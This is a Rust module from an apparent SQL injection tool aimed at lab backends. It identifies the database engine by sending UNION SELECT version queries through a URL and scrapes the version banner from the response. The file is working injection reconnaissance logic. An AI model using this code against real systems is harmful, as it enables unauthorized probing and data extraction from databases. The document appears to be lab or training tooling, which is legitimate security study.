//! Backend engine fingerprinting
//!
//! This is a first-match heuristic, not proof of engine identity: the lab
//! backends type their columns loosely, so a syntactically valid UNION that
//! reads another engine's version expression can still come back 200. The
//! catalog order therefore decides ties.

use crate::error::{Result, TiresiasError};
use crate::http::Oracle;
use crate::logger::Logger;
use crate::models::UnionShape;

use super::catalog::Signature;
use super::payload::UnionSelect;
use super::{payload, scrape};

/// UNION reading `signature`'s version expression into the display slot
pub fn version_query(signature: &Signature, shape: UnionShape) -> UnionSelect {
    let query = UnionSelect::for_shape(shape, signature.version_expression);
    match signature.version_source {
        Some(source) => query.source(source),
        None => query,
    }
}

/// Probes each compatible signature's version UNION in catalog order and
/// returns the first that the backend accepts.
///
/// Signatures that do not list `token` among their comment tokens are skipped
/// without a probe.
pub async fn identify_engine(
    oracle: &dyn Oracle,
    log: &Logger,
    base: &str,
    token: &str,
    shape: UnionShape,
    catalog: &[Signature],
) -> Result<Signature> {
    for signature in catalog {
        if !signature.accepts(token) {
            log.debug(format!(
                "Skipping {}: comment token {token:?} not accepted",
                signature.engine
            ));
            continue;
        }

        let raw = version_query(signature, shape).render(base, token);
        let url = payload::to_url(base, &raw);
        let result = oracle.probe(&url).await?;

        if result.is_success() {
            return Ok(*signature);
        }
        log.debug(format!(
            "{} version probe answered {}",
            signature.engine, result.status
        ));
    }

    Err(TiresiasError::EngineNotIdentified {
        token: token.to_string(),
    })
}

/// Reads the version banner the identified engine reports. The lab renders the
/// injected row last, so the banner is the header cell of the final row.
pub async fn read_version(
    oracle: &dyn Oracle,
    log: &Logger,
    base: &str,
    token: &str,
    shape: UnionShape,
    signature: &Signature,
) -> Result<String> {
    let raw = version_query(signature, shape).render(base, token);
    let url = payload::to_url(base, &raw);
    let result = oracle.probe(&url).await?;

    if !result.is_success() {
        return Err(TiresiasError::UnexpectedStatus {
            url,
            status: result.status,
        });
    }

    match scrape::last_row_header(&result.body) {
        Ok(banner) => Ok(banner),
        Err(TiresiasError::CellNotFound { .. }) => {
            log.debug("Version response carried no table rows");
            Err(TiresiasError::BannerNotFound {
                engine: signature.name(),
            })
        }
        Err(e) => Err(e),
    }
}
